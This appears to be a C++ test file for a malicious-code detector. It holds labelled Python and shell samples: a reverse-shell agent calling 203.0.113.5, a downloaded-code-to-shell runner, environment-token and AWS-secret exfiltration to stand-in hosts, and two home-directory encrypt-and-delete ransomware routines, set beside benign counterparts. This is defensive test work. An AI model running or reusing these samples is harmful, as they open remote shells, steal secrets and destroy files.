// The classes the thirty-first round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog35_MANIFEST.tsv): dynamic Python, hard-to-read shell,
// less common libraries, long layered applications, and code that writes
// code. Its aside scored 28/28 before any change; the classes below came
// from its tune part (65/72 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// An interpreter found at run time ("$py" from a function that probes for
// python3) given a script this code wrote: that script runs, in the
// language its name or #! line says.
TEST(ThirtyFirstRoundClasses, AnInterpreterFoundAtRunTimeRunsTheScriptItWasGiven) {
  const Case cases[] = {
      {"a reverse shell agent written and started by a found python", B,
       "find_python() {\n  for c in python3 python; do\n"
       "    if command -v \"$c\" >/dev/null 2>&1; then echo \"$c\"; return 0; fi\n  done\n  return 1\n}\n"
       "AGENT=\"$HOME/.cache/a.py\"\n"
       "cat > \"$AGENT\" <<EOF\nimport os, pty, socket\ns = socket.create_connection((\"203.0.113.5\", 4433))\n"
       "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn([\"/bin/bash\", \"-i\"])\nEOF\n"
       "py=\"$(find_python)\" || exit 1\nnohup \"$py\" \"$AGENT\" </dev/null >/dev/null 2>&1 &\n",
       "REVERSE-SHELL", SH},
      {"a report script written and run the same way", L,
       "find_python() {\n  for c in python3 python; do\n"
       "    if command -v \"$c\" >/dev/null 2>&1; then echo \"$c\"; return 0; fi\n  done\n  return 1\n}\n"
       "cat > ./report.py <<EOF\nimport json\nprint(json.dumps({'ok': True}))\nEOF\n"
       "py=\"$(find_python)\" || exit 1\n\"$py\" ./report.py > report.json\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A command list whose program word is a value with a default ([snip.shell,
// "-s"], shell defaulting to bash) is judged by that default, as its argv
// is: a downloaded, decoded snippet piped into it runs.
TEST(ThirtyFirstRoundClasses, AProgramWordWithADefaultReadsItsStandardInput) {
  const Case cases[] = {
      {"downloaded snippets piped to their shell", B,
       "import base64, json, subprocess, urllib.request\n"
       "doc = json.loads(urllib.request.urlopen('http://cdn.example.net/s.json').read())\n"
       "for item in doc.get('snippets', []):\n"
       "    shell = item.get('shell', 'bash')\n"
       "    body = base64.b64decode(item['b64']).decode()\n"
       "    subprocess.run([shell, '-s'], input=body, text=True)\n",
       "REMOTE-CODE-EXECUTION"},
      {"a fixed script piped to the configured shell", M,
       "import subprocess\nSHELLS = {'default': 'bash'}\n"
       "shell = SHELLS.get('default', 'sh')\n"
       "subprocess.run([shell, '-s'], input='git status --short\\n', text=True)\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// A Jinja2 template rendered with the program's values carries them: a
// script rendered with the environment's secrets and run sends them where
// it sends its archive.
TEST(ThirtyFirstRoundClasses, ARenderedTemplateCarriesWhatWasRenderedIntoIt) {
  const Case cases[] = {
      {"secrets rendered into a script that uploads them", B,
       "import os, subprocess, tempfile\nfrom jinja2 import Environment\n"
       "T = '''#!/bin/bash\n"
       "cat > /tmp/b/env.txt <<'E'\n{% for k, v in items %}{{ k }}={{ v }}\n{% endfor %}E\n"
       "curl -s -X POST --data-binary @/tmp/b/env.txt \"{{ url }}\"\n'''\n"
       "items = [(k, v) for k, v in os.environ.items() if k.endswith('TOKEN')]\n"
       "script = Environment(autoescape=True).from_string(T).render(items=items, url='https://hooks.example.app/x')\n"
       "fd, path = tempfile.mkstemp(suffix='.sh')\n"
       "with os.fdopen(fd, 'w') as fh:\n    fh.write(script)\n"
       "subprocess.call(['bash', path])\n",
       "EXFILTRATION"},
      {"a build script rendered with the project's name and run", M,
       "import os, subprocess, tempfile\nfrom jinja2 import Environment\n"
       "T = '#!/bin/bash\\ncd {{ project }} && make -j{{ jobs }}\\n'\n"
       "script = Environment(autoescape=True).from_string(T).render(project='./app', jobs=4)\n"
       "fd, path = tempfile.mkstemp(suffix='.sh')\n"
       "with os.fdopen(fd, 'w') as fh:\n    fh.write(script)\n"
       "subprocess.call(['bash', path])\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// Plugin registries filled as classes are defined: a base's
// __init_subclass__, a metaclass's __init__.
TEST(ThirtyFirstRoundClasses, RegistriesFilledAsClassesAreDefined) {
  const Case cases[] = {
      {"a provider registered by __init_subclass__ sends the environment", B,
       "import os, requests\n"
       "class Base:\n    registry = {}\n    key = 'base'\n"
       "    def __init_subclass__(cls, **kw):\n        super().__init_subclass__(**kw)\n"
       "        Base.registry[cls.key] = cls\n"
       "class Env(Base):\n    key = 'env'\n    def provide(self):\n        return {'env': dict(os.environ)}\n"
       "def build(names):\n    return [Base.registry[n]() for n in names if n in Base.registry]\n"
       "for p in build('env,x'.split(',')):\n"
       "    requests.post('https://collect.example.net/x', json=p.provide())\n",
       "EXFILTRATION"},
      {"a plugin registered by a metaclass sends the environment", B,
       "import os, requests\nPLUGINS = {}\n"
       "class Meta(type):\n    def __init__(cls, name, bases, ns):\n"
       "        super().__init__(name, bases, ns)\n        PLUGINS[name.lower()] = cls\n"
       "class Base(metaclass=Meta):\n    def run(self):\n        return {}\n"
       "class Env(Base):\n    def run(self):\n        return dict(os.environ)\n"
       "requests.post('https://collect.example.net/x', json=PLUGINS['env']().run())\n",
       "EXFILTRATION"},
      {"the same registry sending only the host's load", L,
       "import os, requests\n"
       "class Base:\n    registry = {}\n    key = 'base'\n"
       "    def __init_subclass__(cls, **kw):\n        Base.registry[cls.key] = cls\n"
       "class Load(Base):\n    key = 'load'\n    def provide(self):\n        return {'load': os.getloadavg()[0]}\n"
       "for n in ('load',):\n"
       "    requests.post('https://metrics.example.net/x', json=Base.registry[n]().provide(), timeout=5)\n"},
  };
  for (const auto& c : cases) check(c);
}

// sendto's address is an endpoint as connect's is: a statsd gauge to
// loopback stays on the machine.
TEST(ThirtyFirstRoundClasses, SendtosAddressIsItsDestination) {
  const Case cases[] = {
      {"the host's name in a gauge to the local statsd", L,
       "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
       "s.sendto(('host.' + socket.gethostname() + '.load:1|g').encode(), ('127.0.0.1', 8125))\n"},
      {"a secret sent in a datagram to another host", B,
       "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
       "s.sendto(os.environ['AWS_SECRET_ACCESS_KEY'].encode(), ('203.0.113.9', 53))\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Iterating an instance runs its class's __iter__; a generator used in a
// `with` (contextlib.contextmanager) enters with what it yields.
TEST(ThirtyFirstRoundClasses, IteratorClassesAndContextManagerGenerators) {
  const Case cases[] = {
      {"a walker class's files encrypted and deleted", B,
       "import os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "class Walker:\n    def __init__(self, root):\n        self.root = root\n"
       "    def __iter__(self):\n        for d, _, files in os.walk(self.root):\n"
       "            for n in files:\n                yield Path(d) / n\n"
       "f = Fernet(Fernet.generate_key())\n"
       "for p in Walker(Path.home()):\n"
       "    p.with_name(p.name + '.enc').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"a context manager that drops each original after its encrypted copy", B,
       "import os, contextlib\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "@contextlib.contextmanager\ndef replaced(original):\n"
       "    target = original.with_name(original.name + '.enc')\n    yield target\n    original.unlink()\n"
       "f = Fernet(Fernet.generate_key())\n"
       "for d, _, files in os.walk(Path.home()):\n    for n in files:\n        p = Path(d) / n\n"
       "        with replaced(p) as out:\n            out.write_bytes(f.encrypt(p.read_bytes()))\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"an atomic write of the project's own report", L,
       "import contextlib, json, os\nfrom pathlib import Path\n"
       "@contextlib.contextmanager\ndef atomic(path):\n    tmp = path.with_suffix('.tmp')\n"
       "    yield tmp\n    os.replace(tmp, path)\n"
       "with atomic(Path('report.json')) as out:\n    out.write_text(json.dumps({'ok': True}))\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
